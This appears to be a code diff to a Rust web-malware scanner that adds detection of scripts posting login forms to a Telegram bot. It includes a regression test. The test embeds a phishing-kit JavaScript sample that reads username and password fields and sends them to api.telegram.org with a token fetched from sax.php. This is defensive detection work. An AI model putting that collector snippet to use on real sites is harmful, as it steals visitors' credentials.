@@ -839,10 +839,17 @@ fn content(name: &str, text: &[u8], own_domains: &[String], depth: Depth) -> (Ve
         // PHP kept in base64 under a script's name, for a loader that fetches and runs it.
         return (vec![sink_hit(text, taint::Sink { why: Why::EncodedBlob, danger: Danger::High, at })], false);
     }
+    let to_chat_bot = || {
+        shapes::script_posts_to_chat_bot(text).map(|at| taint::Sink {
+            why: Why::CredentialCollector,
+            danger: Danger::High,
+            at,
+        })
+    };
     if is_js(name) {
         // (A script that writes a defacement over the page claims the break-in as the page would.)
         let found = script::injected(text).or_else(|| script::remote_loader(text)).map(added_script);
-        let found = found.into_iter().chain(defaced());
+        let found = found.into_iter().chain(defaced()).chain(to_chat_bot());
         return (found.map(|s| sink_hit(text, s)).collect(), false);
     }
     if is_html(name) {
@@ -853,7 +860,8 @@ fn content(name: &str, text: &[u8], own_domains: &[String], depth: Depth) -> (Ve
         });
         let wallet =
             shapes::asks_wallet_phrase(text).map(|at| taint::Sink { why: Why::PhishingPage, danger: Danger::High, at });
-        let found = defaced().chain(script::in_page(text).map(added_script)).chain(phishing).chain(wallet);
+        let found =
+            defaced().chain(script::in_page(text).map(added_script)).chain(phishing).chain(wallet).chain(to_chat_bot());
         return (found.map(|s| sink_hit(text, s)).collect(), false);
     }
     if !runs_as_php(name) {
@@ -2062,6 +2070,22 @@ mod tests {
             .replace("'/shadow'", "\"\\57\\x73\\x68\\141\\144\\157\\167\"");
         assert!(!escaped.contains("shadow"));
         assert_eq!(whys("smtp.php", &escaped), [Why::RewritesMailPasswords]);
+    }
+
+    #[test]
+    fn a_script_posting_a_form_to_a_chat_bot_from_the_browser_is_a_collector() {
+        // Regression: fresh132's BANPRO kit's `script.js` reads the login form and posts it to
+        // Telegram itself, with a key its `sax.php` hands out.
+        let js = "async function send() { const k = await fetch('sax.php').then(r => r.json());\n\
+                  const usuario = document.getElementById('i1').value; const clave = document.getElementById('i2').value;\n\
+                  fetch(`https://api.telegram.org/bot${k.token}/sendMessage`, { method: 'POST', body: JSON.stringify({ chat_id: k.chat_id, text: usuario + ' ' + clave }) }); }";
+        assert_eq!(whys("js/script.js", js), [Why::CredentialCollector]);
+        let page = format!("<html><body><form><input id='i1'></form><script>{js}</script></body></html>");
+        assert!(whys("index.html", &page).contains(&Why::CredentialCollector), "{:?}", whys("index.html", &page));
+        // A page linking to the site's Telegram channel reads no form for it.
+        let link =
+            "document.getElementById('tg').href = 'https://t.me/shop'; const q = document.getElementById('q').value;";
+        assert!(whys("js/contact.js", link).is_empty());
     }
 
     #[test]
